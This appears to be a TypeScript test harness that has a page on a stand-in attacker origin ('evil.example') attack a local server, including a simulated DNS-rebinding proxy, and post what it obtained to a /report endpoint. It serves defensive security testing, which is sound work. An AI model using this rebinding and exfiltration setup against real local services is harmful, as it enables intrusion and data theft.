import { readFileSync } from 'node:fs'
import { createServer, type ServerResponse } from 'node:http'
import { connect, createServer as createTcpServer } from 'node:net'
import { text } from 'node:stream/consumers'
import { z } from 'zod'
import { close, freePort, listen, loopback } from '../../cli/ports/ports.ts'
import { openPage } from './chromium.ts'

/** What a page tries: a request by script, or a form that it sends by itself. */
export type Attempt =
  | { readonly url: string; readonly init?: object }
  | { readonly url: string; readonly form: { readonly name: string; readonly value: string } }

export type Attempts = Readonly<Record<string, Attempt>>

/** What the page got for each: `nothing`, `sent` (and could not read the answer), or `read STATUS TEXT`. */
export type Loot = Readonly<Record<string, string>>

const script = readFileSync(new URL('evil-script.js', import.meta.url), 'utf8')

const page = (attempts: Attempts, report: string) =>
  `<!doctype html><meta charset="utf-8"><body><script>globalThis.task = ${JSON.stringify({ attempts, report })}</script><script type="module">${script}</script>`

const sendPage = (response: ServerResponse, html: string) =>
  response.writeHead(200, { 'content-type': 'text/html', connection: 'close' }).end(html)

const lootSchema = z.record(z.string(), z.string())

/** Lets a page of `http://evil.example:PORT` try all that; every name leads to this machine. */
export async function fromEvilPage(attempts: Attempts, port?: number): Promise<Loot> {
  const { url, reported, end } = await openReport((report) => page(attempts, report), port)
  const browser = await openPage(url, [`MAP * ${loopback}`])
  try {
    return await reported
  } finally {
    await browser.close()
    await end()
  }
}

/**
 * The same from a page whose name was pointed at this machine after it was loaded: for the browser it talks to its own
 * server. It was loaded from a server of the attacker, whose address then becomes that of `port` here, byte for byte.
 */
export async function fromReboundPage(port: number, attempts: Attempts): Promise<Loot> {
  const { reported, end, reportUrl } = await openReport(() => '')
  const html = page(attempts, reportUrl)
  let isRebound = false
  const attackers = createTcpServer((socket) => {
    socket.on('error', () => undefined)
    // With the first request, not the first connection: browsers open some that they never use.
    socket.once('data', (request) => {
      if (!isRebound) {
        isRebound = true
        const head = ['HTTP/1.1 200 OK', 'content-type: text/html', 'connection: close']
        return void socket.end(`${head.join('\r\n')}\r\n\r\n${html}`)
      }
      const here = connect(port, loopback)
      here.on('error', () => socket.destroy())
      here.write(request)
      socket.pipe(here).pipe(socket)
    })
  })
  const attackersPort = await listen(attackers, 0)
  const browser = await openPage(`http://rebound.example:${port}/`, [
    `MAP rebound.example:${port} ${loopback}:${attackersPort}`,
    `MAP * ${loopback}`,
  ])
  try {
    return await reported
  } finally {
    await browser.close()
    attackers.close()
    await end()
  }
}

/** The attacker's own server: gives the page, and hears what it got. */
async function openReport(html: (report: string) => string, wanted?: number) {
  const { promise: reported, resolve, reject } = Promise.withResolvers<Loot>()
  const port = wanted ?? (await freePort())
  const url = `http://evil.example:${port}/`
  const reportUrl = `${url}report`
  const server = createServer(async (request, response) => {
    if (request.url !== '/report') return void sendPage(response, html(reportUrl))
    response.end()
    resolve(lootSchema.parse(JSON.parse(await text(request))))
  })
  await listen(server, port)
  const patience = setTimeout(() => reject(new Error('the page reported nothing within two minutes')), 120_000)
  return {
    url,
    reportUrl,
    reported,
    end() {
      clearTimeout(patience)
      return close(server)
    },
  }
}
